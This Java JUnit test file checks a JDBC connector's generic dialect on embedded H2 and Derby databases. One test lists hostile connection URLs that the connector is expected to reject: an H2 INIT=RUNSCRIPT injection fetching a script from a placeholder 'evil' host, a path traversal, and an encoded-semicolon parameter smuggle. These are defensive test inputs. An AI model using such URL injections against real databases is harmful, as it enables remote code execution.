// SPDX-License-Identifier: Apache-2.0
package io.obsrv.connect.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.obsrv.connect.source.Batch;
import io.obsrv.connect.source.Event;
import io.obsrv.connect.source.OutputFormat;
import io.obsrv.connect.source.Position;
import io.obsrv.connect.source.Source;
import java.math.BigDecimal;
import java.sql.SQLException;
import java.time.Instant;
import java.util.Date;
import java.util.List;
import org.apache.kafka.connect.data.Struct;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The dialect generic on databases that have none of their own: H2 and Derby, in this JVM. */
class GenericTest {

    private static final String TYPES = "CREATE TABLE APP.THINGS (ID BIGINT NOT NULL PRIMARY KEY, A SMALLINT,"
            + " B DECIMAL(12,2), C DOUBLE PRECISION, D VARCHAR(20), E DATE, F TIME, G TIMESTAMP, H BOOLEAN,"
            + " I VARCHAR(4) FOR BIT DATA)";

    private static EmbeddedDatabase open(String product) throws SQLException {
        EmbeddedDatabase database = product.equals("H2") ? EmbeddedDatabase.h2() : EmbeddedDatabase.derby();
        database.execute("CREATE SCHEMA APP" + (product.equals("H2") ? "" : "2"));
        return database;
    }

    @ParameterizedTest
    @ValueSource(strings = {"H2", "Derby"})
    void loadsATableAndGoesOnFromAnyPosition(String product) throws Exception {
        // Given
        try (EmbeddedDatabase database = open(product)) {
            database.execute(
                    "CREATE TABLE APP.\"a \"\"b\" (K VARCHAR(10) NOT NULL, ID INT NOT NULL, PRIMARY KEY (K, ID))",
                    "INSERT INTO APP.\"a \"\"b\" VALUES ('a', 1), ('a', 2), ('b', 1), ('c', 0), ('c', 3)");
            try (Source source = database.source("batch.max.rows", "2")) {

                // When
                List<Batch> all = Reading.batches(source, source.plan().get(0), Position.START);

                // Then
                List<String> events = Reading.events(all);
                assertThat(events).hasSize(5).startsWith("{\"K\":\"a\",\"ID\":1}");
                for (int i = 0; i < all.size() - 1; i++) {
                    Position position = all.get(i).position();
                    assertThat(Reading.events(
                                    Reading.batches(source, source.plan().get(0), position)))
                            .isEqualTo(events.subList(2 * (i + 1), 5));
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"H2", "Derby"})
    void readsTheTypesOfTheStandard(String product) throws Exception {
        // Given
        try (EmbeddedDatabase database = open(product)) {
            boolean h2 = product.equals("H2");
            database.execute(
                    h2 ? TYPES.replace("VARCHAR(4) FOR BIT DATA", "VARBINARY(4)") : TYPES,
                    "INSERT INTO APP.THINGS VALUES (1, -7, 1.50, 0.1, 'é', '2026-11-21', '09:05:00',"
                            + " '2026-03-29 02:30:00.123456', TRUE, X'00ff10')",
                    "INSERT INTO APP.THINGS (ID) VALUES (2)");

            // When
            List<String> json;
            try (Source source = database.source()) {
                json = Reading.events(source);
            }

            // Then
            assertThat(json)
                    .containsExactly(
                            "{\"ID\":1,\"A\":-7,\"B\":1.50,\"C\":0.1,\"D\":\"é\",\"E\":\"2026-11-21\",\"F\":\"09:05:00\","
                                    + "\"G\":\"2026-03-29T02:30:00.123456\",\"H\":true,\"I\":\"AP8Q\"}",
                            "{\"ID\":2,\"A\":null,\"B\":null,\"C\":null,\"D\":null,\"E\":null,\"F\":null,\"G\":null,"
                                    + "\"H\":null,\"I\":null}");
            try (Source source = database.source(OutputFormat.STRUCT)) {
                Event event = Reading.batches(source, source.plan().get(0), Position.START)
                        .get(0)
                        .events()
                        .get(0);
                Struct row = (Struct) event.value().value();
                assertThat(row.get("G")).isEqualTo(Date.from(Instant.parse("2026-03-29T02:30:00.123Z")));
                assertThat(row.get("B")).isEqualTo(new BigDecimal("1.50"));
            }
        }
    }

    @Test
    void readsTypesThatOnlyH2HasAsTimestampsOrText() throws Exception {
        // Given
        try (EmbeddedDatabase database = open("H2")) {
            database.execute(
                    "CREATE TABLE APP.T (ID INT PRIMARY KEY, Z TIMESTAMP(9) WITH TIME ZONE, U UUID, N INTERVAL DAY)",
                    "INSERT INTO APP.T VALUES (1, '2026-11-21 09:05:00.123456789+05:30',"
                            + " 'a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11', INTERVAL '3' DAY)");
            try (Source source = database.source()) {

                // When
                List<String> events = Reading.events(source);

                // Then
                assertThat(events)
                        .containsExactly("{\"ID\":1,\"Z\":\"2026-11-21T03:35:00.123456789Z\","
                                + "\"U\":\"a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11\",\"N\":\"INTERVAL '3' DAY\"}");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"H2", "Derby"})
    void followsByATimestampOldEnoughAndAKey(String product) throws Exception {
        // Given
        try (EmbeddedDatabase database = open(product)) {
            database.execute(
                    "CREATE TABLE APP.T (ID INT NOT NULL PRIMARY KEY, CHANGED TIMESTAMP NOT NULL)",
                    "INSERT INTO APP.T VALUES (1, '2026-01-01 00:00:00.000001'), (2, '2026-01-01 00:00:00.000001')",
                    "INSERT INTO APP.T VALUES (3, '2999-01-01 00:00:00')");
            try (Source source = database.source(
                    "mode",
                    "timestamp",
                    "timestamp.column.name",
                    "CHANGED",
                    "timestamp.delay.interval.ms",
                    "1500",
                    "tracking",
                    "cursor",
                    "batch.max.rows",
                    "1")) {
                List<Batch> first = Reading.batches(source, source.plan().get(0), Position.START);
                database.execute("INSERT INTO APP.T VALUES (4, '2026-01-01 00:00:00.000002')");

                // When
                List<Batch> next = Reading.batches(source, source.plan().get(0), Reading.last(first));

                // Then
                assertThat(ids(first)).containsExactly(1, 2);
                assertThat(ids(next)).containsExactly(4);
            }
        }
    }

    @Test
    void refusesAUrlThatTheOperatorDoesNotAllow() throws Exception {
        try (EmbeddedDatabase database = open("H2")) {
            for (String url : List.of(
                    "jdbc:other:mem:x",
                    database.url() + ";INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                    database.url() + ";TRACE_LEVEL_FILE=4",
                    database.url() + "?x=1",
                    database.url() + "/../../etc",
                    database.url() + "%3bINIT=x")) {
                assertThatThrownBy(() -> database.source("connection.url", url))
                        .hasMessageContaining("obsrv.connect.jdbc.generic=<prefix>,<driver class>")
                        .hasMessageNotContaining("evil");
            }
            assertThatThrownBy(() -> database.source("dialect.name", "postgresql"))
                    .hasMessageContaining("There is no dialect \"h2\"");
            assertThatThrownBy(() -> database.source("connection.properties", "INIT=x"))
                    .hasMessageContaining("\"INIT\" is not allowed");
        }
    }

    @Test
    void saysThatTheDriverIsMissing() throws Exception {
        // Given
        try (EmbeddedDatabase database = open("H2")) {
            String before = System.setProperty("obsrv.connect.jdbc.generic", "jdbc:h2:mem:,com.example.No");
            try (Source source = database.source()) {

                // When // Then
                assertThatThrownBy(source::plan).hasMessageContaining("The driver com.example.No is not in");
            } finally {
                System.setProperty("obsrv.connect.jdbc.generic", before);
            }
        }
    }

    private static List<Integer> ids(List<Batch> batches) {
        return Reading.events(batches).stream()
                .map(json -> Integer.valueOf(json.replaceAll("\\{\"ID\":(\\d+).*", "$1")))
                .toList();
    }
}
